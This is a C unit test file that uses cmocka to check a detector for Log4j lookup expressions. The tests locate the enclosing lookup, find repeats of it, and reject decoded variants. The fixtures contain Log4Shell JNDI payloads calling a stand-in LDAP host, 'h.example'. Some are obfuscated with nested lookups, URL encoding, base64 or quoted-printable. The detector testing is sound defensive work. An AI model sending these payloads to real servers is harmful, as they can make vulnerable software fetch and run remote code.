/* The part of a text that its lookups are in: where it is sure, where it stands again, and when there can be nothing else. */
#include "detect/closed_core.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <string.h>
#include <cmocka.h>

static ct_str str(const char *z) { return (ct_str){(const unsigned char *)z, strlen(z)}; }

#define CALL "${jndi:ldap://h.example/a}"

static void is_from_the_first_opener_to_the_last_brace(void **state)
{
    static const struct {
        const char *text, *core;
    } rows[] = {
        {"%20" CALL "%20", CALL},
        {"a}b{ %20 " CALL " }{", CALL},
        {"${${lower:j}ndi:${x:-}}&${a}}", "${${lower:j}ndi:${x:-}}&${a}"},
        {CALL, ""},                         /* no escapes: few other forms */
        {"%20${jndi:ldap://h.example/a", ""}, /* not closed */
        {"%20${a}${b", ""},
        {"%20$" CALL, ""},                  /* "$$": an escape to Log4j */
        {"%20${::-$}{a}", ""},              /* a '$' that a lookup brings */
        {"%20" CALL "$", ""},
        {"%24" CALL " $x", ""},
        {"%20", ""},
        {"", ""},
    };
    (void)state;
    for (size_t i = 0; i < sizeof rows / sizeof *rows; i++) {
        struct ct_closed_core core = ct_closed_core(str(rows[i].text), false);
        if (!ct_str_eq(core.text, str(rows[i].core))) fail_msg("%s: %.*s", rows[i].text, CT_STR_ARG(core.text));
        if (core.text.n) assert_memory_equal(rows[i].text + core.at, core.text.p, core.text.n);
    }
}

static void is_found_where_nothing_else_of_its_kind_stands(void **state)
{
    struct ct_closed_core core = ct_closed_core(str("%20" CALL), false);
    (void)state;
    assert_int_equal(ct_closed_core_find(&core, str("x " CALL " }")), 2);
    assert_int_equal(ct_closed_core_find(&core, str(CALL)), 0);
    assert_int_equal(ct_closed_core_find(&core, str(CALL CALL)), CT_STR_NONE);
    assert_int_equal(ct_closed_core_find(&core, str("${a}" CALL)), CT_STR_NONE);
    assert_int_equal(ct_closed_core_find(&core, str("$" CALL)), CT_STR_NONE);
    assert_int_equal(ct_closed_core_find(&core, str(CALL " $")), CT_STR_NONE);
    assert_int_equal(ct_closed_core_find(&core, str("x")), CT_STR_NONE);
}

static bool is_all(const char *text, bool mail)
{
    struct ct_closed_core core = ct_closed_core(str(text), mail);
    assert_true(core.text.n > 0);
    return ct_closed_core_is_all(&core, str(text), core.at, mail);
}

static void is_all_where_no_decoding_brings_another(void **state)
{
    (void)state;
    assert_true(is_all("/a%20b?q=caf%C3%A9&x=" CALL "&utm_source=mail%5B1%5D", false));
    assert_false(is_all(CALL "&x=%24%7Bjndi:ldap://other.example/a%7D", false));
    assert_false(is_all("%24%7Bjndi:ldap://other.example/a%7D" CALL, false));
    assert_false(is_all("JHtqbmRpOmxkYXA6Ly9oLmV4YW1wbGUvYX0=%20" CALL, false));
    assert_false(is_all("${jndi:ldap://h%2eexample/a}", false));
    assert_false(is_all("%20${jndi:ldap://h+b.example/a}", false)); /* a form's '+' is a blank */
    assert_false(is_all("%20${jndi:ldap://h.example/JHtqbmRpOmxkYXA6Ly9oLmV4YW1wbGUvYX0}", false));
    assert_true(is_all("%20${jndi:ldap://h.example/o=x}", false));
    assert_false(is_all("%20${jndi:ldap://h.example/o=x}", true)); /* quoted-printable */
    assert_false(is_all("=?utf-8?Q?=24?= %20" CALL, false));
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(is_from_the_first_opener_to_the_last_brace),
        cmocka_unit_test(is_found_where_nothing_else_of_its_kind_stands),
        cmocka_unit_test(is_all_where_no_decoding_brings_another),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
